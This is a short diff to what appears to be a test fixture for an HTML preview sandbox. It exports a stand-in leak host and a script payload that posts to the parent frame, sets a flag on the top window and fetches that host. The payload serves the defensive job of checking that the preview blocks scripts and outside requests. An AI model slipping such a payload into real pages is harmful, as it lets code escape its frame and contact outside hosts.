@@ -1,6 +1,6 @@
 /** Everything below tries to run `RAN` or to reach this host. */
-const LEAK = 'http://leak.test';
-const RUN = `parent.postMessage('ran','*');top.ran=1;fetch('${LEAK}/ran')`;
+export const LEAK = 'http://leak.test';
+export const RUN = `parent.postMessage('ran','*');top.ran=1;fetch('${LEAK}/ran')`;
 
 /** HTML that would run a script, load something or leave, if any layer of the preview let it. */
 export const HOSTILE_HTML: readonly string[] = [
